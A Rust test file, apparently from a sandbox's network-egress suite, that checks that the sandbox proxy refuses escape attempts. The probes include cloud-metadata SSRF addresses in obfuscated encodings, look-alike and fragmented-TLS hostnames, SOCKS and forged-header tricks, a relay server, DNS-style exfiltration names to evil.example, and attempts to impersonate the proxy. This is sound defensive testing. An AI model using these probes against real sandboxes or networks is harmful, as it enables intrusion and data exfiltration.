//! E: the network. Without a way out there is no route and nobody who listens; with one, quire's own proxy is what listens, and
//! the cases talk to it as a program inside would that knows it well.

use crate::catalogue::{Case, case, elsewhere};
use crate::ground::{Answers, Ground, Inside};
use crate::probe::net::hex;
use quire_sandbox::egress::{Allow, Policy, Refusal, Traffic};
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

pub const CASES: &[Case] = &[
    case(
        "E01",
        "direct_connections",
        "ENETUNREACH: there is no route, whatever the port",
        direct_connections,
    ),
    case("E02", "direct_datagrams", "ENETUNREACH: neither DNS, QUIC nor time", direct_datagrams),
    case("E03", "direct_ipv6", "the same", direct_ipv6),
    case("E04", "loopback_of_the_machine", "ECONNREFUSED: nothing that listens there is here", loopback),
    case(
        "E06",
        "metadata_and_private_addresses",
        "refused by address, however it is written or named",
        metadata,
    ),
    case("E07", "families_of_sockets", "no kind that would go round the network", families),
    case(
        "E09",
        "greetings_of_tls",
        "no name, another name, or one in pieces: an alert, and nothing passed on",
        greetings,
    ),
    elsewhere(
        "E10",
        "another_host_in_a_tunnel",
        "refused where quire reads along; else a stated limit",
        "crates/quire-sandbox/src/egress/tests/secrets.rs::e10_what_is_inside_names_the_host_that_was_asked_for",
    ),
    case("E12", "names_that_look_alike", "are other names", look_alikes),
    elsewhere(
        "E13",
        "names_that_change_their_address",
        "the address that was judged is the one that is dialled",
        "crates/quire-sandbox/src/egress/tests/proxy.rs::e13_the_address_that_was_judged_is_the_one_that_is_dialled",
    ),
    case("E15", "other_ports", "403 and no connection, for names and for listed hosts", other_ports),
    case("E16", "socks", "connects to what is listed, and does nothing else", socks),
    case("E17", "relay_inside", "is under the same rules, and the proxy is no way to itself", relay),
    case("E19", "without_the_proxys_variables", "there is no route, whatever the variables say", variables),
    case("E20", "forged_headers", "open nothing", forged_headers),
    elsewhere(
        "E21",
        "sending_much_to_an_allowed_host",
        "ends at the limit, and is told",
        "crates/quire-sandbox/src/egress/tests/limits.rs::e21_e23_what_is_sent_and_received_has_an_end",
    ),
    elsewhere(
        "E22",
        "the_value_of_a_secret",
        "is sent to its hosts alone, and does not come back",
        "crates/quire-sandbox/src/egress/tests/secrets.rs::e22_another_host_gets_the_placeholder",
    ),
    elsewhere(
        "E23",
        "flooding_the_proxy",
        "a limit of connections, of time and of bytes; the first ones are served",
        "crates/quire-sandbox/src/egress/tests/limits.rs::e23_a_flood_is_refused_and_the_first_ones_are_served",
    ),
    case("E25", "git_over_ssh", "no agent, no route, and a tunnel to port 22 is refused", git_over_ssh),
    case("E26", "ping", "no raw socket, and no answer to the other", ping),
    case(
        "E27",
        "names_as_messages",
        "a name that is not listed is refused before anybody is asked for it",
        names,
    ),
    case("E30", "the_way_out_of_another", "listens in its own sandbox alone", another_way_out),
    case(
        "E31",
        "taking_the_proxys_place",
        "its sockets cannot be taken, and its answers not given by others",
        in_its_place,
    ),
];

/// Where the way out is: the proxy, and what stands for port 80 and port 443 of every name. Without one nobody is there, and
/// the programs' own addresses are as good as any.
struct Ways {
    proxy: &'static str,
    http: &'static str,
    tls: &'static str,
}

const OUT: Ways = Ways { proxy: "198.18.0.1:3128", http: "198.18.0.1:80", tls: "198.18.0.1:443" };
const NONE: Ways = Ways { proxy: "127.0.0.1:3128", http: "127.0.0.1:80", tls: "127.0.0.1:443" };

fn ways(inside: &Inside<'_>) -> Ways {
    if inside.outside.is_some() { OUT } else { NONE }
}

/// How a connection by address fails where there is no route.
fn no_route(ground: &Ground) -> &'static [&'static str] {
    if ground.is_copy() { &["EAFNOSUPPORT"] } else { &["ENETUNREACH"] }
}

fn direct_connections(ground: &Ground) {
    let inside = ground.inside();
    let world = [
        "192.0.2.1:80",
        "203.0.113.80:443",
        "192.0.2.1:853",
        "198.51.100.7:22",
        "10.0.0.1:80",
        "169.254.169.254:80",
    ];
    inside.probe(&[&["tcp"][..], &world].concat()).all(no_route(ground));
    if !ground.is_copy() {
        // With a way out there is one more device, and no route but to that.
        let out = inside.outside.is_some();
        let devices = if out { "eth0\nlo" } else { "lo" };
        assert_eq!(inside.yes("ls /sys/class/net"), devices);
        let routes = inside.yes("tail -n +2 /proc/net/route | cut -f 1,2,3,8");
        assert_eq!(routes, if out { "eth0\t000012C6\t00000000\tFCFFFFFF" } else { "" });
    }
}

fn direct_datagrams(ground: &Ground) {
    let world = ["192.0.2.1:53", "203.0.113.80:443", "192.0.2.1:123", "10.0.0.1:53", "224.0.0.251:5353"];
    ground.inside().probe(&[&["udp"][..], &world].concat()).all(no_route(ground));
}

fn direct_ipv6(ground: &Ground) {
    let world = ["[2001:db8::1]:443", "[fd00:ec2::254]:80", "[2606:4700::1]:53", "[::ffff:192.0.2.1]:80"];
    let inside = ground.inside();
    inside.probe(&[&["tcp"][..], &world].concat()).all(no_route(ground));
    inside.probe(&[&["udp"][..], &world[..3]].concat()).all(no_route(ground));
    let near = inside.probe(&["tcp", "[fe80::1]:80"]);
    assert!(matches!(near.get("[fe80::1]:80"), "EINVAL" | "EAFNOSUPPORT" | "ENETUNREACH"), "{near:?}");
}

/// Answers every connection to this machine with a short page, and returns the port.
fn page() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.read(&mut [0; 4096]);
            let _ =
                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
        }
    });
    port
}

fn loopback(ground: &Ground) {
    let open = page();
    let six = TcpListener::bind("[::1]:0").unwrap();
    let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
    let at = [
        format!("127.0.0.1:{open}"),
        format!("[::ffff:127.0.0.1]:{open}"),
        format!("127.0.0.2:{open}"),
        six.local_addr().unwrap().to_string(),
    ];
    let probe: Vec<&str> = std::iter::once("tcp").chain(at.iter().map(String::as_str)).collect();
    ground.outside(&probe[..2]).all(&["ok"]);
    let inside = ground.inside();
    inside.probe(&probe).all(if ground.is_copy() { &["EAFNOSUPPORT"] } else { &["ECONNREFUSED"] });
    inside.probe(&["udp", &datagrams.local_addr().unwrap().to_string()]);
    datagrams.set_nonblocking(true).unwrap();
    assert!(datagrams.recv(&mut [0; 8]).is_err(), "a datagram arrived");
    // What a program of its own listens on is reached, where there are sockets.
    if !ground.is_copy() {
        inside.yes("python3 -c 'import socket; s = socket.create_server((\"127.0.0.1\", 0)); socket.create_connection(s.getsockname())'");
    }
    // The proxy leads nowhere there either, but to what was named.
    if ground.stand.gate {
        let (inside, port) = with_page(ground);
        let asked = ask(
            &inside,
            &[("named", get(&format!("127.0.0.1:{port}"))), ("not", get(&format!("127.0.0.1:{open}")))],
        );
        assert!(asked.get("named").starts_with("HTTP/1.1 200"), "{asked:?}");
        assert!(asked.get("not").starts_with("HTTP/1.1 403"), "{asked:?}");
    }
}

/// Starts a sandbox that may reach the registries, all below `allowed.example`, and a page of this machine, whose port is
/// returned.
fn with_page(ground: &Ground) -> (Inside<'_>, u16) {
    let port = page();
    let hosts = vec![format!("127.0.0.1:{port}"), "*.allowed.example".into()];
    let policy = Policy { allow: Allow::Only { registries: true, hosts }, ..Policy::default() };
    (ground.inside_with(&ground.stage.spec, policy), port)
}

fn get(host: &str) -> String {
    format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
}

fn tunnel(to: &str) -> String {
    format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n")
}

/// Says each of these to the proxy, and returns the first line of each answer.
fn ask(inside: &Inside<'_>, asked: &[(&str, String)]) -> Answers {
    let asked: Vec<(&str, &str, Vec<u8>)> =
        asked.iter().map(|(name, text)| (*name, ways(inside).proxy, text.clone().into_bytes())).collect();
    say(inside, &asked, b"\r\n\r\n")
}

/// Says bytes to addresses inside, and returns what came back, up to `end`.
fn say(inside: &Inside<'_>, said: &[(&str, &str, Vec<u8>)], end: &[u8]) -> Answers {
    let words: Vec<String> = said
        .iter()
        .flat_map(|(name, to, bytes)| [(*name).to_owned(), (*to).to_owned(), hex(bytes), hex(end)])
        .collect();
    let probe: Vec<&str> = std::iter::once("talk").chain(words.iter().map(String::as_str)).collect();
    inside.probe(&probe)
}

/// Checks that all of these are refused by the proxy in a word, where there is one, and that there is nobody to ask where not.
fn refused(ground: &Ground, inside: &Inside<'_>, asked: &[(&str, String)], is_why: fn(&Refusal) -> bool) {
    // As much at once as an output may be long.
    if asked.len() > 8 {
        return asked.chunks(8).for_each(|some| refused(ground, inside, some, is_why));
    }
    let said = ask(inside, asked);
    let Some(outside) = &inside.outside else {
        return said.all(nobody(ground));
    };
    for (name, _) in asked {
        assert!(said.get(name).starts_with("HTTP/1.1 403 quire: "), "{name}: {}", said.get(name));
    }
    for _ in asked {
        match outside.heard.recv_timeout(Duration::from_secs(60)).expect("to be told of each") {
            Traffic::Refused { why, .. } if is_why(&why) => {}
            other => panic!("{other:?}"),
        }
    }
}

/// How the proxy's address answers where there is no way out.
fn nobody(ground: &Ground) -> &'static [&'static str] {
    if ground.is_copy() { &["EAFNOSUPPORT"] } else { &["ECONNREFUSED"] }
}

/// The control of each case: what is named is reached, where there is a way out at all.
fn named_is_reached(inside: &Inside<'_>, port: u16) {
    let Some(outside) = &inside.outside else { return };
    let said = ask(inside, &[("named", get(&format!("127.0.0.1:{port}")))]);
    assert!(said.get("named").starts_with("HTTP/1.1 200"), "{said:?}");
    let heard = outside.heard.recv_timeout(Duration::from_secs(60)).expect("to be told of it");
    assert!(matches!(heard, Traffic::Closed { up: 1.., down: 1.., .. }), "{heard:?}");
}

fn metadata(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let hosts = [
        "169.254.169.254",
        "2852039166",
        "0xA9FEA9FE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "[::ffff:169.254.169.254]",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.1.1",
        "127.0.0.1",
        "127.1",
        "0",
        "0.0.0.0",
        "[::1]",
        "[fe80::1]",
        "localhost",
        "a.localhost",
        "224.0.0.1",
        "255.255.255.255",
        "[64:ff9b::a9fe:a9fe]",
    ];
    let asked: Vec<(&str, String)> = hosts.iter().map(|host| (*host, get(host))).collect();
    refused(ground, &inside, &asked, |why| matches!(why, Refusal::Private(_)));
    let tunnels: Vec<(&str, String)> =
        hosts.iter().take(8).map(|host| (*host, tunnel(&format!("{host}:443")))).collect();
    refused(ground, &inside, &tunnels, |why| matches!(why, Refusal::Private(_)));
    // A name that leads there, where every name may be asked for: one of this machine's own.
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let near = hosts.lines().filter(|line| !line.starts_with('#')).find_map(|line| {
        let mut words = line.split_whitespace();
        words.next()?;
        words.find(|name| !name.contains("localhost") && name.is_ascii()).map(str::to_owned)
    });
    let near = near.expect("a name of this machine in /etc/hosts");
    let policy = Policy { allow: Allow::All, ..Policy::default() };
    drop(inside);
    let inside = ground.inside_with(&ground.stage.spec, policy);
    refused(ground, &inside, &[("by-name", get(&near))], |why| matches!(why, Refusal::Private(_)));
}

fn families(ground: &Ground) {
    let said = ground.inside().probe(&["sockets"]);
    for name in
        "raw raw6 packet old-packet alg vsock bluetooth can xdp tipc rds netfilter xfrm generic".split(' ')
    {
        assert!(
            matches!(said.get(name), "EPERM" | "EPROTONOSUPPORT" | "EAFNOSUPPORT"),
            "{name}: {}",
            said.get(name)
        );
    }
}

/// Returns the first words of a TLS connection (RFC 8446, 4.1.2), which ask for this name, if for any.
fn hello(name: Option<&str>) -> Vec<u8> {
    let sized = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &sized(body)].concat();
    let mut extensions = Vec::new();
    if let Some(name) = name {
        extensions.extend(extension(0, &sized(&[&[0][..], &sized(name.as_bytes())].concat())));
    }
    extensions.extend(extension(10, &sized(&[0, 0x1d])));
    extensions.extend(extension(13, &sized(&[4, 3, 8, 4])));
    extensions.extend(extension(43, &[2, 3, 4]));
    extensions.extend(extension(51, &sized(&[&[0, 0x1d][..], &sized(&[9; 32])].concat())));
    let body = [&[3, 3][..], &[7; 32], &[0], &sized(&[0x13, 1]), &[1, 0], &sized(&extensions)].concat();
    let length = (body.len() as u32).to_be_bytes();
    let handshake = [&[1][..], &length[1..], &body].concat();
    record(&handshake)
}

fn record(handshake: &[u8]) -> Vec<u8> {
    [&[22, 3, 1][..], &(handshake.len() as u16).to_be_bytes(), handshake].concat()
}

/// The same in records of a few bytes.
fn in_pieces(hello: &[u8]) -> Vec<u8> {
    hello[5..].chunks(3).flat_map(record).collect()
}

fn greetings(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let other = hello(Some("evil.example"));
    let to_named = |hello: &[u8]| [tunnel(&format!("127.0.0.1:{port}")).as_bytes(), hello].concat();
    let Ways { proxy, tls, .. } = ways(&inside);
    let rows = [
        ("other-name", tls, other.clone()),
        ("in-pieces", tls, in_pieces(&other)),
        ("no-name", tls, hello(None)),
        ("plain", tls, b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n".to_vec()),
        ("ssh", tls, b"SSH-2.0-x\r\n\r\n".to_vec()),
        ("in-a-tunnel", proxy, to_named(&other)),
        ("in-a-tunnel-in-pieces", proxy, to_named(&in_pieces(&other))),
    ];
    let said = say(&inside, &rows, b"");
    let Some(outside) = &inside.outside else {
        return said.all(nobody(ground));
    };
    for (name, _, _) in &rows {
        // An alert and no word of the other side's.
        let got = said.get(name);
        let alert = got.ends_with("\\x15\\x03\\x03\\x00\\x02\\x02p")
            || got.ends_with("\\x15\\x03\\x03\\x00\\x02\\x021");
        assert!(alert && !got.contains("hello"), "{name}: {got}");
        let heard = outside.heard.recv_timeout(Duration::from_secs(60)).expect("to be told of each");
        assert!(matches!(heard, Traffic::Refused { .. }), "{name}: {heard:?}");
    }
}

fn look_alikes(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let hosts = [
        "allowed.example",
        "evil-allowed.example",
        "evilallowed.example",
        "a.allowed.example.evil.example",
        "pypi.org.evil.example",
        "evilpypi.org",
        "xpypi.org",
        "a.pypi.org",
        "allowed.example.",
    ];
    let asked: Vec<(&str, String)> = hosts.iter().map(|host| (*host, get(host))).collect();
    refused(ground, &inside, &asked, |why| *why == Refusal::NotListed);
}

fn other_ports(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let asked: Vec<(String, String)> = [1, 21, 22, 23, 25, 110, 143, 465, 587, 993, 6379, 9418, 65535]
        .into_iter()
        .flat_map(|port| {
            ["pypi.org", "a.allowed.example", "evil.example"].map(|host| format!("{host}:{port}"))
        })
        .map(|to| (to.clone(), tunnel(&to)))
        .collect();
    let asked: Vec<(&str, String)> = asked.iter().map(|(name, text)| (name.as_str(), text.clone())).collect();
    refused(ground, &inside, &asked, |why| matches!(why, Refusal::Port | Refusal::NotListed));
}

fn socks(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let by_name = |command: u8, name: &str, port: u16| {
        [&[5, 1, 0, 5, command, 0, 3, name.len() as u8][..], name.as_bytes(), &port.to_be_bytes()].concat()
    };
    let by_address = |command: u8, at: [u8; 4], port: u16| {
        [&[5, 1, 0, 5, command, 0, 1][..], &at, &port.to_be_bytes()].concat()
    };
    // Method 0, then version 5 and the code.
    let rows = [
        ("bind", by_name(2, "pypi.org", 443), 7),
        ("udp-associate", by_name(3, "pypi.org", 443), 7),
        ("no-command", by_name(9, "pypi.org", 443), 7),
        ("not-listed", by_name(1, "evil.example", 443), 2),
        ("metadata", by_address(1, [169, 254, 169, 254], 80), 2),
        ("this-machine", by_address(1, [127, 0, 0, 1], 22), 2),
        ("bind-here", by_address(2, [127, 0, 0, 1], port), 7),
        ("two-names", by_name(1, "evil\0pypi.org", 443), 1),
    ];
    let said: Vec<(&str, &str, Vec<u8>)> =
        rows.iter().map(|(name, bytes, _)| (*name, ways(&inside).proxy, bytes.clone())).collect();
    let said = say(&inside, &said, b"");
    if inside.outside.is_none() {
        return said.all(nobody(ground));
    }
    for (name, _, code) in rows {
        let expected = format!("\\x05\\x00\\x05\\x{code:02x}");
        assert!(said.get(name).starts_with(&expected), "{name}: {}", said.get(name));
    }
}

fn relay(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let to_itself = ["127.0.0.1:3128", OUT.proxy, "localhost:3128", "[::1]:3128", "127.0.0.1:53"];
    let asked: Vec<(&str, String)> = to_itself.iter().map(|to| (*to, tunnel(to))).collect();
    refused(ground, &inside, &asked, |why| matches!(why, Refusal::Private(_) | Refusal::NoName));
    if ground.is_copy() {
        return;
    }
    // A server of the agent's own that passes on what it is asked is one more program inside.
    let relay = "import socket, threading\ns = socket.create_server((\"127.0.0.1\", 3999))\nopen(\"/tmp/relays\", \"w\")\nwhile 1:\n  c, _ = s.accept()\n  q = c.recv(4096)\n  \
                 try:\n    u = socket.create_connection((\"PROXY\", 3128)); u.sendall(q); c.sendall(u.recv(4096))\n  \
                 except OSError as e: c.sendall(str(e).encode())\n  c.close()";
    let relay = relay.replace("PROXY", ways(&inside).proxy.split(':').next().unwrap_or_default());
    inside.yes(&format!("(python3 -c '{relay}' > /dev/null 2>&1 &); until test -e /tmp/relays; do :; done"));
    let evil = tunnel("evil.example:443").into_bytes();
    let said = say(&inside, &[("relayed", "127.0.0.1:3999", evil)], b"\r\n");
    let expected = if inside.outside.is_some() { "HTTP/1.1 403 quire: " } else { "[Errno 111]" };
    assert!(said.get("relayed").starts_with(expected), "{said:?}");
}

fn variables(ground: &Ground) {
    let inside = ground.inside();
    let fetch = "import sys, urllib.request\ntry: print(urllib.request.urlopen(\"http://192.0.2.1/\", timeout=30).status)\n\
                 except OSError as e: print(e)";
    for other in [
        "env -u http_proxy -u HTTP_PROXY -u all_proxy",
        "env no_proxy='*' NO_PROXY='*'",
        "env http_proxy=http://192.0.2.1:80",
    ] {
        let said = inside.yes(&format!("{other} python3 -c '{fetch}'"));
        let expected = if ground.is_copy() { "not supported" } else { "unreachable" };
        assert!(said.contains(expected), "{other}: {said}");
    }
}

fn forged_headers(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let forged = [
        "X-Forwarded-Host: pypi.org",
        "X-Original-Host: pypi.org",
        "X-Sandbox: allow",
        "Proxy-Authorization: Basic eDp5",
        "Authorization: Bearer x",
        "X-Forwarded-For: 127.0.0.1",
        "Forwarded: for=127.0.0.1;host=pypi.org",
        "Upgrade: websocket",
    ];
    let asked: Vec<(&str, String)> = forged
        .iter()
        .map(|header| {
            let name = header.split(':').next().expect("a name");
            (name, format!("GET http://evil.example/ HTTP/1.1\r\nHost: pypi.org\r\n{header}\r\nConnection: close\r\n\r\n"))
        })
        .collect();
    refused(ground, &inside, &asked, |why| *why == Refusal::NotListed);
}

fn git_over_ssh(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    inside.yes("test -z \"$SSH_AUTH_SOCK$SSH_AGENT_PID$GPG_AGENT_INFO\"");
    inside.no("GIT_SSH_COMMAND='ssh -o BatchMode=yes -o ConnectTimeout=20' git ls-remote ssh://git@192.0.2.1/x.git 2>&1 | grep -q .git/HEAD");
    refused(ground, &inside, &[("ssh", tunnel("github.com:22")), ("listed", tunnel("pypi.org:22"))], |why| {
        matches!(why, Refusal::Port)
    });
}

fn ping(ground: &Ground) {
    let said = ground.inside().probe(&["ping"]);
    for raw in ["raw", "raw6"] {
        assert!(matches!(said.get(raw), "EPERM" | "EAFNOSUPPORT"), "{said:?}");
    }
    for echo in ["echo", "echo6"] {
        assert!(matches!(said.get(echo), "EACCES" | "EPERM" | "EAFNOSUPPORT" | "ok"), "{said:?}");
    }
    ground.inside().no("ping -c1 -W1 192.0.2.1 2>/dev/null || python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b\"x\" * 16, (\"192.0.2.1\", 0))'");
}

fn names(ground: &Ground) {
    let (inside, port) = with_page(ground);
    named_is_reached(&inside, port);
    let asked = ["data.evil.example:443", "c2VjcmV0.evil.example:80"].map(|to| (to, tunnel(to)));
    refused(ground, &inside, &asked, |why| *why == Refusal::NotListed);
    if ground.is_copy() {
        return;
    }
    // To look a name up tells nobody of it: every name has the same answer, and other questions have none.
    let looked = inside.sh("getent ahostsv4 secret.evil.example | awk '{ print $1 }' | sort -u").1;
    assert_eq!(looked, if inside.outside.is_some() { "198.18.0.1" } else { "" });
}

fn another_way_out(ground: &Ground) {
    let mut spec = ground.stage.spec.clone();
    spec.state = ground.stage.base.join("data/state-2");
    spec.layer = ground.stage.base.join("data/layer-2");
    spec.gate = None;
    let _with = ground.inside();
    let other = ground.inside_of(&spec);
    other.probe(&["tcp", NONE.proxy, NONE.http, NONE.tls, "127.0.0.1:53"]).all(nobody(ground));
    other.probe(&["tcp", OUT.proxy, OUT.http, OUT.tls]).all(no_route(ground));
    // Nor is it this machine's.
    ground.outside(&["tcp", NONE.proxy]).all(&["ECONNREFUSED"]);
}

fn in_its_place(ground: &Ground) {
    let inside = ground.inside();
    if ground.is_copy() {
        inside.no("python3 -c 'import socket; socket.socket()'");
        return;
    }
    let bind = |host: &str, port: u16, more: &str| {
        format!(
            "python3 -c 'import socket\ns = socket.socket()\n{more}\ns.bind((\"{host}\", {port}))\ns.listen()'"
        )
    };
    let reuse = "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)";
    // Every port of the programs' own addresses is theirs, and the address of the way out is none of these.
    for (host, port) in [("127.0.0.1", 3128), ("0.0.0.0", 3128), ("0.0.0.0", 443), ("127.0.0.1", 53)] {
        let (plain, shared) = (inside.sh(&bind(host, port, "")).0, inside.sh(&bind(host, port, reuse)).0);
        assert_eq!((plain, shared), (0, 0), "{host}:{port}");
    }
    for port in [53, 80, 443, 3128] {
        inside.no(&bind("198.18.0.1", port, reuse));
    }
    assert_eq!(inside.yes("ls -l /proc/[0-9]*/fd 2>/dev/null | grep -c 'socket:' || true").trim(), "0");
    inside.no("ip link set lo down || ip link set eth0 down || ip addr add 198.18.0.1/30 dev lo || ip addr add 192.0.2.1/24 dev lo");
}
